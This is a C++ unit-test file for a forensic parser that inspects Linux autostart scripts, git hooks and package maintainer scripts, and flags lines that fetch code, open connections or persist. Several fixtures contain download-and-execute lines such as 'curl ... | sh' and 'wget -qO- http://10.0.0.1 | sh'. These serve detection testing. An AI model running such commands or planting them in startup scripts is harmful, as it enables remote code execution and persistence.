#include "support/collecting_context.hpp"
#include "support/samples.hpp"
#include "traces/linux_program/parser.hpp"
#include <gtest/gtest.h>

namespace konseki::linux_program {

namespace {

void parse_all(std::string_view content, std::string_view name, test::CollectingContext& collected)
{
    parser.parse({ as_bytes(content), { 0, content.size() }, name }, collected.context);
}

}

// covers: L05 L29 L30
TEST(LinuxProgram, AScriptIsARowAndItsTellingLinesAreRows)
{
    auto const content
        = test::read_file(std::string(KONSEKI_SOURCE_DIR) + "/src/traces/linux_program/testdata/hook.sh");
    constexpr std::string_view name = "/etc/update-motd.d/99-hook";
    EXPECT_EQ(parser.sniff(as_bytes(content), name), Sniff::sure);
    test::CollectingContext collected;
    parse_all(content, name, collected);
    auto const rows = collected.rows("linux.autostart");
    ASSERT_EQ(rows.size(), 3U);
    EXPECT_EQ(rows[0].at("command"), name);
    EXPECT_EQ(rows[0].at("location"), "L30");
    EXPECT_EQ(rows[0].at("detail"), "/bin/sh -e; does: fetches pipes_to_interpreter opens_connection stays_behind");
    EXPECT_EQ(rows[0].count("is_enabled"), 0U);
    EXPECT_EQ(rows[1].at("command"), "curl -s http://10.0.0.1/a | sh &");
    EXPECT_EQ(rows[1].at("line"), "5");
    EXPECT_EQ(rows[2].at("line"), "7");
    EXPECT_EQ(rows[2].at("detail"), "does: opens_connection");
}

// covers: L04 L08 L33
TEST(LinuxProgram, BinariesEmptyScriptsAndBackupsAreTold)
{
    test::CollectingContext collected;
    parse_all("\x7f"
              "ELF\x02",
        "/usr/lib/systemd/system-generators/x", collected);
    parse_all("#!/bin/sh -e\n# nothing\nexit 0\n", "/etc/rc.local", collected);
    parse_all("#!/bin/sh\na\n", "/etc/init.d/x.dpkg-old", collected);
    parse_all(
        "#!/usr/bin/env python3\nimport os\nos.system('curl x | sh')\n", "/home/h/p/.git/hooks/pre-commit", collected);
    auto const rows = collected.rows("linux.autostart");
    ASSERT_GE(rows.size(), 4U);
    EXPECT_EQ(rows[0].at("detail"), "ELF");
    EXPECT_EQ(rows[0].at("location"), "L04");
    EXPECT_EQ(rows[1].at("is_enabled"), "false");
    EXPECT_EQ(rows[1].at("location"), "L08");
    EXPECT_EQ(rows[2].at("is_enabled"), "false");
    EXPECT_EQ(rows[3].at("location"), "L33");
    EXPECT_EQ(rows[3].at("path"), "/home/h/p/.git/hooks/pre-commit");
}

// covers: L08
TEST(LinuxProgram, WhatAScriptStartsByItsWholePathIsTold)
{
    test::CollectingContext collected;
    parse_all(
        "#!/bin/sh -e\n/usr/sbin/agent -q &\n(setsid /opt/x/run >/dev/null 2>&1 &)\ncd /srv\nif true; then exec nohup "
        "/usr/sbin/agent; fi\necho /etc/issue\nexit 0\n",
        "/etc/rc.local", collected);
    auto const rows = collected.rows("linux.autostart");
    ASSERT_EQ(rows.size(), 1U);
    EXPECT_EQ(rows[0].at("detail"), "/bin/sh -e; starts: /usr/sbin/agent /opt/x/run; does: stays_behind");
}

// covers: L31
TEST(LinuxProgram, OfMaintainerScriptsOnlyOddLinesAreRows)
{
    test::CollectingContext collected;
    parse_all(
        "#!/bin/sh\nadduser --system x\nwget -qO- http://10.0.0.1 | sh\n", "/var/lib/dpkg/info/x.postinst", collected);
    auto const rows = collected.rows("linux.autostart");
    ASSERT_EQ(rows.size(), 1U);
    EXPECT_EQ(rows[0].at("kind"), "package_script");
    EXPECT_EQ(rows[0].at("line"), "3");
}

TEST(LinuxProgram, SamplesOfGitAndReadmesAreLeftAlone)
{
    EXPECT_EQ(parser.sniff(as_bytes("#!/bin/sh\n"), "/x/.git/hooks/pre-commit.sample"), Sniff::no);
    EXPECT_EQ(parser.sniff(as_bytes("text"), "/etc/init.d/README"), Sniff::no);
    EXPECT_EQ(parser.sniff({}, "/etc/cron.daily/.placeholder"), Sniff::no);
}

TEST(LinuxProgram, EveryPrefixIsReadWithoutHarm)
{
    auto const content
        = test::read_file(std::string(KONSEKI_SOURCE_DIR) + "/src/traces/linux_program/testdata/hook.sh");
    for (std::size_t size = 0; size < content.size(); ++size) {
        test::CollectingContext collected;
        parse_all(std::string_view(content).substr(0, size), "/etc/rc.local", collected);
        EXPECT_GE(collected.rows("linux.autostart").size(), 1U);
    }
}

}
